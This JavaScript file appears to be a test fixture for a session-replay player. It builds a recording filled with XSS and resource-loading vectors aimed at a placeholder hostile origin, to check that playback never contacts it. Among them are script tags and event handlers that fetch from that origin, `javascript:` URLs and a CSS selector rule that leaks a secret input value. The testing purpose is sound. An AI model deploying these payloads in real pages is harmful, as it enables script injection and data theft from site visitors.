// A recording by somebody who wants to run something in the viewer's browser, or to be told about it. `evil` is the
// origin that must never hear from the player.
export function hostileEvents(evil, begin) {
  let nextId = 1;
  const element = (tagName, attributes = {}, childNodes = [], more = {}) => ({
    type: 2,
    id: nextId++,
    tagName,
    attributes,
    childNodes,
    ...more,
  });
  const text = (textContent, more = {}) => ({ type: 3, id: nextId++, textContent, ...more });
  const style = (css) => element('style', {}, [text(css, { isStyle: true })]);
  const svg = (tagName, attributes = {}, childNodes = []) => element(tagName, attributes, childNodes, { isSVG: true });
  const run = (where) => `try { fetch('${evil}/script-${where}'); } catch {} top.hacked = '${where}'`;

  const attacks = (stage) => {
    const url = (what) => `${evil}/${stage}-${what}`;
    return [
      element('script', {}, [text(run(`${stage}-inline`))]),
      element('script', { src: url('script.js') }),
      element('script', { type: 'module', src: url('module.js') }),
      element('script', { type: 'speculationrules' }, [
        text(JSON.stringify({ prefetch: [{ urls: [url('speculation')] }] })),
      ]),
      element('img', { src: url('img'), onerror: run(`${stage}-onerror`) }),
      element('img', { srcset: `${url('srcset')} 1x, ${url('srcset2')} 2x` }),
      element('img', { src: url('rr-img'), rr_dataURL: url('rr-data') }),
      element('canvas', { rr_dataURL: url('canvas') }),
      element('picture', {}, [element('source', { srcset: url('source') }), element('img', { src: url('picture') })]),
      element('a', { href: `javascript:${run(`${stage}-href`)}`, autofocus: '', onfocus: run(`${stage}-onfocus`) }, [
        text('link'),
      ]),
      element('details', { open: '', ontoggle: run(`${stage}-ontoggle`) }, [element('summary')]),
      element('body', { onload: run(`${stage}-body-onload`), background: url('background') }),
      element('iframe', { src: url('iframe') }),
      element('iframe', { src: `javascript:${run(`${stage}-iframe-src`)}` }),
      element('iframe', { srcdoc: `<script>${run(`${stage}-srcdoc`)}</scr` + `ipt><img src="${url('srcdoc-img')}">` }),
      element('iframe', { rr_src: url('rr-iframe') }),
      element('frameset', {}, [element('frame', { src: url('frame') })]),
      element('object', { data: url('object') }),
      element('embed', { src: url('embed') }),
      element('video', { src: url('video'), poster: url('poster'), autoplay: '', rr_mediaState: 'played' }),
      element('audio', { src: url('audio'), autoplay: '', rr_mediaState: 'played' }),
      element('track', { src: url('track') }),
      element('input', { type: 'image', src: url('input') }),
      element('input', { id: 'secret', value: 'hunter2' }),
      element('form', { action: url('form'), id: 'form' }, [element('button', { autofocus: '' })]),
      element('link', { rel: 'stylesheet', href: url('sheet.css') }),
      element('link', { rel: 'preload', as: 'image', href: url('preload') }),
      element('link', { rel: 'modulepreload', href: url('modulepreload.js') }),
      element('link', { rel: 'prefetch', href: url('prefetch') }),
      element('link', { rel: 'prerender', href: url('prerender') }),
      element('link', { rel: 'preconnect', href: evil }),
      element('link', { rel: 'dns-prefetch', href: evil }),
      element('link', { rel: 'icon', href: url('icon') }),
      element('link', { rel: 'manifest', href: url('manifest') }),
      element('meta', { 'http-equiv': 'refresh', content: `0; url=${url('refresh')}` }),
      element('meta', { 'http-equiv': 'refresh', content: `0; url=javascript:${run(`${stage}-refresh`)}` }),
      element('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src * 'unsafe-inline'" }),
      element('base', { href: `${evil}/base/` }),
      element('img', { src: `${stage}-relative` }),
      style(`@import "${url('import.css')}"; @font-face { font-family: evil; src: url("${url('font.woff2')}"); }
        body { background: url("${url('css-background')}"); font-family: evil; cursor: url("${url('cursor')}"), auto; }
        #secret[value^="h"] { background: url("${url('exfiltrated-h')}"); list-style: url("${url('list')}"); }
        ::before { content: url("${url('content')}"); }`),
      element('div', { style: `background-image: image-set(url("${url('inline-style')}") 1x)` }, [
        text('Nothing to see'),
      ]),
      svg('svg', { onload: run(`${stage}-svg-onload`) }, [
        svg('script', {}, [text(run(`${stage}-svg-script`))]),
        svg('image', { href: url('svg-image') }),
        svg('image', { 'xlink:href': url('svg-xlink') }),
        svg('use', { href: `${url('svg-use')}#x` }),
        svg('feImage', { href: url('svg-feimage') }),
        svg('a', { 'xlink:href': `javascript:${run(`${stage}-svg-a`)}` }, [
          svg('animate', {
            attributeName: 'href',
            to: `javascript:${run(`${stage}-svg-animate`)}`,
            onbegin: run(`${stage}-onbegin`),
          }),
        ]),
        svg('foreignObject', {}, [element('img', { src: url('foreign') })]),
      ]),
      element(
        'div',
        {},
        [element('img', { src: url('shadow'), onerror: run(`${stage}-shadow`) }, [], { isShadow: true })],
        { isShadowHost: true }
      ),
    ];
  };

  // Harmless at first; a mutation makes them dangerous.
  const sleepers = { frame: element('iframe'), link: element('link', { href: evil }), image: element('img') };
  const head = element('head', {}, [element('title', {}, [text('Hostile')])]);
  const body = element('body', { onload: run('snapshot-body') }, [
    element('p', {}, [text('Recorded text')]),
    ...Object.values(sleepers),
    ...attacks('snapshot'),
  ]);
  const html = element('html', {}, [head, body]);
  const document = {
    type: 0,
    id: nextId++,
    childNodes: [{ type: 1, id: nextId++, name: 'html', publicId: '', systemId: '' }, html],
  };
  const adds = (stage) => attacks(stage).map((node) => ({ parentId: body.id, nextId: null, node }));
  const mutation = (at, stage, attributes = []) => ({
    type: 3,
    timestamp: begin + at,
    data: { source: 0, adds: adds(stage), removes: [], texts: [], attributes },
  });
  const incremental = (at, data) => ({ type: 3, timestamp: begin + at, data });
  const bodyAttributes = [
    {
      id: body.id,
      attributes: {
        style: { background: `url("${evil}/attribute-style")` },
        onclick: run('attribute'),
        background: `${evil}/attribute-background`,
      },
    },
    { id: sleepers.frame.id, attributes: { SRC: `${evil}/sleeping-frame` } },
    { id: sleepers.link.id, attributes: { rel: 'nofollow PreConnect' } },
    { id: sleepers.image.id, attributes: { src: `${evil}/sleeping-image`, onerror: run('sleeping-image') } },
  ];

  return [
    { type: 4, timestamp: begin, data: { href: `${evil}/page`, width: 800, height: 600 } },
    { type: 2, timestamp: begin + 10, data: { node: document, initialOffset: { top: 0, left: 0 } } },
    // Applied at once when seeking beyond, one after the other when playing: rrweb has a way of its own for each.
    mutation(500, 'early', bodyAttributes),
    incremental(600, {
      source: 10,
      family: 'evil',
      fontSource: `url("${evil}/font-event")`,
      buffer: false,
      descriptors: {},
    }),
    incremental(620, { source: 8, id: body.id, adds: [{ rule: `p { background: url("${evil}/rule") }` }] }),
    incremental(640, {
      source: 15,
      id: document.id,
      styleIds: [1],
      styles: [{ styleId: 1, rules: [{ rule: `p { background: url("${evil}/adopted") }` }] }],
    }),
    incremental(660, {
      source: 9,
      id: body.id,
      type: 0,
      commands: [{ property: 'drawImage', args: [{ rr_type: 'Image', src: `${evil}/canvas-command` }] }],
    }),
    incremental(680, { source: 2, type: 2, id: body.id, x: 1, y: 1 }),
    mutation(1500, 'late'),
    incremental(1600, {
      source: 10,
      family: 'late',
      fontSource: `url("${evil}/late-font-event")`,
      buffer: false,
      descriptors: {},
    }),
    { type: 5, timestamp: begin + 2000, data: { tag: 'end', payload: {} } },
  ];
}
